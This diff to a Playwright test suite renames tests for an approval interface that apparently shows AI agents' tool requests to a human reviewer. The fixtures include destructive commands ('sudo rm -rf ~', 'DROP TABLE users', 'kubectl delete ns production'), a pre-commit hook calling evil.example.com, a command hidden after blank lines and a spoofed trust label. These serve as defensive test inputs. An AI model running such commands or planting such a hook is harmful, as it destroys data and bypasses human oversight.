@@ -13,7 +13,7 @@ async function look(page: Page, stage: Stage, id: string): Promise<void> {
   await ready(page);
 }
 
-test('blank lines are folded, so that what follows them is in view, and every danger is said', async ({ page, stage }) => {
+test('blank lines are folded, and every danger is shown', async ({ page, stage }) => {
   const asked = await stage.bash(`git push origin main${'\n'.repeat(60)}python3 -c "print(1)"`);
   await look(page, stage, asked.id);
   const command = focus(page).getByRole('group', { name: 'Command' });
@@ -27,7 +27,7 @@ test('blank lines are folded, so that what follows them is in view, and every da
   }
 });
 
-test('the first yes to a command that goes on below shows what comes next, and only the one after its end answers', async ({ page, stage }) => {
+test('approving a long command scrolls to its end before it answers', async ({ page, stage }) => {
   const lines = Array.from({ length: 60 }, (_, line) => `echo line ${line} >> log.txt`);
   lines[22] = 'othertool --evil';
   const asked = await stage.bash(`${lines.join('\n')}\ngit push origin last`);
@@ -52,7 +52,7 @@ test('the first yes to a command that goes on below shows what comes next, and o
   expect(await asked.told).toMatchObject({ behavior: 'allow' });
 });
 
-test('so does one to an input that is listed: each box, and the last name', async ({ page, stage }) => {
+test('approving a listed input shows each box and the last field first', async ({ page, stage }) => {
   const first = `${Array.from({ length: 60 }, (_, line) => `line ${line}`).join('\n')}\nthe last line`;
   const more = Object.fromEntries(Array.from({ length: 10 }, (_, at) => [`more${at}`, 'y'.repeat(190)]));
   const asked = await stage.ask('run_query', { first, ...more, sql: 'DROP TABLE users' }, { serverId: 'db' });
@@ -66,7 +66,7 @@ test('so does one to an input that is listed: each box, and the last name', asyn
   expect(seen).toEqual([true, true]);
 });
 
-test('a group ticks only what it shows whole', async ({ page, stage }) => {
+test('a bulk review preselects only questions that it shows completely', async ({ page, stage }) => {
   await stage.bash('npm test # run the suite, then tidy up:\nmake deploy PROD=1');
   await stage.ask('Write', { file_path: '/home/u/proj/.git/hooks/pre-commit', content: '#!/bin/sh\ncurl https://evil.example.com\n' });
   await stage.ask('run_query', { note: 'x'.repeat(4200), sql: 'DROP TABLE users' }, { serverId: 'db' });
@@ -83,7 +83,7 @@ test('a group ticks only what it shows whole', async ({ page, stage }) => {
   expect(shown.split('\n')).toContain('make deploy PROD=1');
 });
 
-test('an edit that makes it dangerous has to be approved twice; one that cannot be judged as well', async ({ page, stage, watch }) => {
+test('a dangerous or unjudged edit must be approved twice', async ({ page, stage, watch }) => {
   watch.expects(/503/);
   const asked = await stage.bash('npm run clean');
   await look(page, stage, asked.id);
@@ -105,7 +105,7 @@ test('an edit that makes it dangerous has to be approved twice; one that cannot 
   expect(await asked.told).toMatchObject({ behavior: 'allow', updatedInput: { command: 'sudo rm -rf ~' } });
 });
 
-test('names do not speak for the page', async ({ page, stage }) => {
+test('untrusted names are not shown as text of the page', async ({ page, stage }) => {
   const agentId = '✓ Harmless. Checked by sekisho: this tool is on the trusted list';
   const asked = await stage.ask('demo', { command: 'kubectl delete ns production' }, { serverId: 'x', agentId, workspaceId: 'no rule objects to it' });
   await look(page, stage, asked.id);
@@ -119,7 +119,7 @@ test('names do not speak for the page', async ({ page, stage }) => {
   await expect(article.locator('header .callout, header .badge')).toHaveCount(0);
 });
 
-test('a diff made to be slow to compare does not hold up the page', async ({ page, stage }) => {
+test('a diff that is slow to compare does not block the page', async ({ page, stage }) => {
   const unlike = (set: string) => Array.from({ length: 100 }, (_, line) => Array.from({ length: 590 }, (_, at) => set[(at * at * (line + 1) + at) % set.length]).join('')).join('\n');
   const asked = await stage.ask('Edit', { file_path: '/tmp/none', old_string: unlike('!#%&*+'), new_string: unlike('?@^~=|') });
   await look(page, stage, asked.id);
@@ -130,7 +130,7 @@ test('a diff made to be slow to compare does not hold up the page', async ({ pag
   }));
   // It once took five seconds. Times depend on the machine; the work is bounded by `Budget`, whose test has a
   // clock.
-  console.log(`a diff made to be slow to compare: the page was held up for ${longest} ms at most`);
+  console.log(`a diff that is slow to compare: the page was blocked for ${longest} ms at most`);
   await expect(page.locator('.answers')).toBeVisible();
   await expect(page.getByRole('region', { name: '/tmp/none' }).locator('mark')).toHaveCount(0);
 });
